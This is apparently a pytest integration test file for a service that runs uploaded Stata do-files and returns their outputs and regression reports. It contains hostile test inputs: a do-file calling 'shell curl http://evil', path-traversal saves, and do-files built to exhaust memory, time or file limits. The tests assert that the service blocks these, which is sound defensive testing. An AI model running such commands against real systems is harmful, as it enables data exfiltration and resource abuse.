"""Clients' own do-files end to end: the real api, workers (the embedded engine, and the Stata
test double) and formatter against real NATS and S3. A realistic do-file with two inputs,
a merge, loops, stored estimates and files written in folders; hostile do-files stopped by
the check or by their limits, with an honest job beside them unharmed."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import statsmodels.api as sm

from dev.servers import NatsServer, S3Server
from dev.stack import Client, Stack
from tests.api.conftest import REPO
from tests.doubles import install_fake_stata

ANALYSIS = """\
* Wages and firm size: two inputs merged, a loop, two stored models, tables written
import delimited using "wages.csv", clear
merge m:1 firm using "firms.dta", keep(match) nogenerate
generate lwage = ln(wage)
label variable lwage "Log hourly wage"
foreach v of varlist wage hours {
    summarize `v'
}
regress lwage hours female
estimates store base
regress lwage hours female size, vce(robust)
estimates store full
mkdir "tables"
twoway scatter lwage hours, title("Wages and hours")
graph export "tables/wages.png", replace
export delimited firm lwage hours using "tables/Table 1.csv", replace
file open notes using "tables/notes.txt", write replace
file write notes "models: base full" _n
file close notes
log using "tables/extra.log", text replace
summarize lwage
log close
save "analysis.dta", replace
"""
FORMATS = ["xlsx", "docx", "pdf", "html", "json", "csv", "log", "do"]


def wage_data() -> tuple[bytes, bytes, pd.DataFrame]:
    """wages.csv, firms.dta and the merged data as the do-file sees it (wages in quarters,
    exact in Stata's float)."""
    rng = np.random.default_rng(15)
    n = 120
    wages = pd.DataFrame({"id": np.arange(1, n + 1), "firm": rng.integers(1, 9, n),
                          "hours": rng.integers(20, 45, n), "female": rng.integers(0, 2, n)})
    wages["wage"] = np.round((8 + 0.2 * wages["hours"] - 1.5 * wages["female"]
                              + rng.normal(0, 2, n)).clip(4) * 4) / 4
    firms = pd.DataFrame({"firm": np.arange(1, 8, dtype=np.int16),
                          "size": rng.integers(10, 500, 7).astype(np.int16)})
    buffer = io.BytesIO()
    firms.to_stata(buffer, write_index=False, version=118)
    merged = wages.merge(firms, on="firm", how="inner")
    return wages.to_csv(index=False).encode(), buffer.getvalue(), merged


@pytest.fixture(scope="module")
def stack(nats_server: NatsServer, s3_server: S3Server,
          tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """api, an embedded worker (two slots), a worker on the Stata double (pool stata) and a
    formatter; limits small enough for hostile do-files to meet them fast."""
    root = Path(tmp_path_factory.mktemp("dofiles"))
    stack = Stack(nats=nats_server, s3=s3_server, root=root,
                  settings={"SS_DO_LIBRARY": str(REPO / "do_library"), "SS_WORKER_SLOTS": "2",
                            "SS_JOB_MEMORY_MB": "384", "SS_JOB_OUTPUT_MAX_BYTES": str(8 << 20),
                            "SS_JOB_MAX_FILES": "30"})
    stack.start_api()
    stack.start_worker("worker-embedded")
    stack.start_worker("worker-stata", SS_ENGINE="stata", SS_POOL="stata",
                       SS_STATA_CMD=str(install_fake_stata(root / "bin")))
    stack.start_formatter()
    yield stack
    stack.stop_all()


async def run_dofile(client: Client, dofile: dict[str, Any], files: dict[str, bytes],
                     **spec: Any) -> dict[str, Any]:
    response = await client.http.post("/v1/jobs", json={"dofile": dofile, **spec})
    assert response.status_code == 201, response.text
    job_id = response.json()["id"]
    for name, data in files.items():
        await client.upload(job_id, name, data)
    await client.submit(job_id)
    return await client.wait(job_id, timeout=180)


async def artifact(client: Client, job: dict[str, Any], name: str) -> bytes:
    response = await client.http.get(f"/v1/jobs/{job['id']}/artifacts/{name}")
    assert response.status_code == 200, (name, response.text)
    return response.content


def raw_names(job: dict[str, Any]) -> set[str]:
    return {a["name"] for a in job["artifacts"] if a["kind"] == "raw"}


async def test_a_realistic_do_file_returns_every_file_and_its_models_in_the_reports(
        client: Client) -> None:
    wages_csv, firms_dta, merged = wage_data()
    job = await run_dofile(client, {"input": "analysis.do"},
                           {"analysis.do": ANALYSIS.encode(), "wages.csv": wages_csv,
                            "firms.dta": firms_dta}, output_formats=FORMATS)
    assert job["state"] == "succeeded", job["error"]
    assert job["attempts"][-1]["engine"] == "embedded"
    written = {"main.do", "main.log", "run.json", "analysis.dta", "tables/Table 1.csv",
               "tables/notes.txt", "tables/extra.log", "tables/wages.png",
               "graphs/index.json", "graphs/001-Graph.png", "results/coefficients.csv",
               "results/model_stats.csv", "results/models.csv"}
    # the uploads come back only when the run changed them
    assert raw_names(job) == written
    assert {a["name"] for a in job["artifacts"] if a["kind"] == "output"} >= {
        "report.xlsx", "report.docx", "report.pdf", "report.html", "results.json",
        "results.zip", "main.log", "main.do"}

    assert await artifact(client, job, "main.do") == ANALYSIS.encode()
    run = json.loads(await artifact(client, job, "run.json"))
    assert run["dofile"] == {"name": "analysis.do",
                             "sha256": hashlib.sha256(ANALYSIS.encode()).hexdigest()}
    table = pd.read_csv(io.BytesIO(await artifact(client, job, "tables/Table 1.csv")))
    assert list(table.columns) == ["firm", "lwage", "hours"]
    assert len(table) == len(merged)
    assert await artifact(client, job, "tables/notes.txt") == b"models: base full\n"
    # The graph it drew is embedded in the reports, under its own title.
    png = await artifact(client, job, "tables/wages.png")
    assert png.startswith(b"\x89PNG")
    html = (await artifact(client, job, "report.html")).decode()
    assert base64.b64encode(await artifact(client, job, "graphs/001-Graph.png")).decode() in html
    assert "Wages and hours" in html

    # The stored estimates are the report's regression table; numbers from statsmodels on
    # the same data (lwage stored as Stata's float, as generate stores it).
    results = json.loads(await artifact(client, job, "results.json"))
    assert results["template"]["id"] == "analysis.do"
    models = {m["name"]: m for m in results["models"]}
    assert list(models) == ["base", "full"]
    lwage = np.log(merged["wage"].to_numpy()).astype(np.float32).astype(float)
    for name, columns, cov in (("base", ["hours", "female"], "nonrobust"),
                               ("full", ["hours", "female", "size"], "HC1")):
        fit = sm.OLS(lwage, sm.add_constant(merged[columns].astype(float))).fit(cov_type=cov)
        got = {c["term"]: c for c in models[name]["coefficients"]}
        for term in columns:
            assert got[term]["coef"] == pytest.approx(fit.params[term], rel=1e-7)
            assert got[term]["se"] == pytest.approx(fit.bse[term], rel=1e-6)
        assert got["_cons"]["coef"] == pytest.approx(fit.params["const"], rel=1e-7)
        assert models[name]["n"] == len(merged)
    assert models["full"]["vce"] == "robust"


async def test_an_input_the_do_file_overwrites_comes_back(client: Client) -> None:
    source = 'import delimited using "x.csv", clear\nreplace y = y * 2\n' \
             'export delimited using "x.csv", replace\n'
    job = await run_dofile(client, {"source": source}, {"x.csv": b"id,y\n1,1\n2,2\n"},
                           output_formats=["log"])
    assert job["state"] == "succeeded", job["error"]
    assert "x.csv" in raw_names(job)
    assert (await artifact(client, job, "x.csv")).split() == [b"id,y", b"1,2", b"2,4"]


async def test_an_unsafe_do_file_never_reaches_a_worker(client: Client) -> None:
    response = await client.http.post("/v1/jobs", json={
        "dofile": {"source": "use data\nshell curl http://evil\nsave ../../x\n"}})
    job_id = response.json()["id"]
    await client.upload(job_id, "data.dta", wage_data()[1])
    refused = await client.http.post(f"/v1/jobs/{job_id}/submit")
    assert refused.status_code == 422
    body = refused.json()
    assert body["error_code"] == "DOFILE_CHECK_FAILED"
    assert [(p["line"], p["rule"]) for p in body["details"]["problems"]] == [
        (2, "shell"), (2, "outside_workspace"), (3, "outside_workspace")]
    assert (await client.job(job_id))["attempts"] == []


async def test_hostile_runs_are_stopped_by_their_limits_and_an_honest_one_beside_them_runs(
        client: Client) -> None:
    honest = ("set obs 300\nset seed 5\ngenerate x = rnormal()\n"
              "generate y = 1 + 2*x + rnormal()\nregress y x\nestimates store m\n")
    memory, endless, files, honest_job = await asyncio.gather(
        run_dofile(client, {"source": "set obs 1000000000\ngenerate double x = 1\n"}, {}),
        run_dofile(client, {"source": "while 1 {\n  sleep 5\n}\n"}, {}, timeout_s=4),
        run_dofile(client, {"source": "set obs 1\ngenerate x = 1\n"
                                      "forvalues i = 1/60 {\n  save f`i'\n}\n"}, {}),
        run_dofile(client, {"source": honest}, {}, output_formats=["json"]))
    assert (memory["state"], memory["error"]["error_code"]) == ("failed", "JOB_MEMORY_EXCEEDED")
    assert memory["error"]["details"]["limit"] == "memory_bytes"
    assert (endless["state"], endless["error"]["error_code"]) == ("failed", "JOB_TIMEOUT")
    assert endless["error"]["details"]["limit"] == "time_s"
    assert (files["state"], files["error"]["error_code"]) == ("failed", "JOB_OUTPUT_EXCEEDED")
    assert files["error"]["details"]["limit"] == "files"
    # past the file limit only what ran, its log and the run record are kept
    assert raw_names(files) <= {"main.do", "main.log", "run.json"}
    assert honest_job["state"] == "succeeded", honest_job["error"]


async def test_a_do_file_on_stata_gets_its_ado_and_returns_what_it_wrote(
        client: Client) -> None:
    source = ('mkdir out\nfile open fh using "out/summary.txt", write replace\n'
              'file write fh "wages analysed" _n\nfile close fh\n'
              'log using "out/extra.log", text replace name(mine)\nhello SS\nlog close mine\n'
              'scatter y x\ngraph export "out/plot.png", replace\n')
    ado = 'program define hello\n  display "hello `1\'"\nend\n'
    job = await run_dofile(client, {"source": source}, {"hello.ado": ado.encode()},
                           engine="stata", output_formats=["json", "log", "do", "html"])
    assert job["state"] == "succeeded", job["error"]
    assert job["attempts"][-1]["engine"] == "stata"
    assert {"main.do", "main.log", "run.json", "out/summary.txt", "out/extra.log",
            "out/plot.png"} <= raw_names(job)
    assert not any(name.startswith("ss_") for name in raw_names(job))
    assert "hello SS" in (await artifact(client, job, "out/extra.log")).decode()
    log = (await artifact(client, job, "main.log")).decode()
    assert "capture noisily ss_collect_estimates" in log
    # Stata keeps no graph list: the picture the do-file exported is the report's figure.
    html = (await artifact(client, job, "report.html")).decode()
    assert base64.b64encode(await artifact(client, job, "out/plot.png")).decode() in html
    assert "out/plot.png" in html


async def test_engine_any_sends_a_do_file_the_embedded_engine_lacks_to_stata(
        client: Client) -> None:
    job = await run_dofile(client, {"source": "display \"start\"\ntabout y x using t.txt\n"}, {},
                           engine="any")
    assert job["engine"] == "stata"
    assert job["attempts"][-1]["engine"] == "stata"
    # The double knows no tabout; real Stata with the package would run it.
    assert (job["state"], job["error"]["error_code"]) == ("failed", "DOFILE_ERROR")
    assert job["error"]["details"]["rc"] == 199


async def test_a_path_built_at_run_time_is_confined_by_the_embedded_engine(
        client: Client, tmp_path: Path) -> None:
    # The check cannot see this path (it comes from the data), so it warns, refuses Stata
    # and lets the embedded engine run it: the engine's own confinement is the second line.
    target = tmp_path / "escaped.dta"
    source = (f'clear\nset obs 1\ngenerate str200 p = "{target}"\n'
              "levelsof p, local(where) clean\nsave \"`where'\"\n")
    check = await client.http.post("/v1/dofiles/check", json={"source": source})
    answer = check.json()
    assert answer["engines"] == ["embedded"]
    assert [p["kind"] for p in answer["problems"]] == ["unresolved_path"]
    job = await run_dofile(client, {"source": source}, {})
    assert (job["state"], job["error"]["error_code"]) == ("failed", "DOFILE_ERROR")
    assert job["error"]["details"]["rc"] == 603
    assert not target.exists()
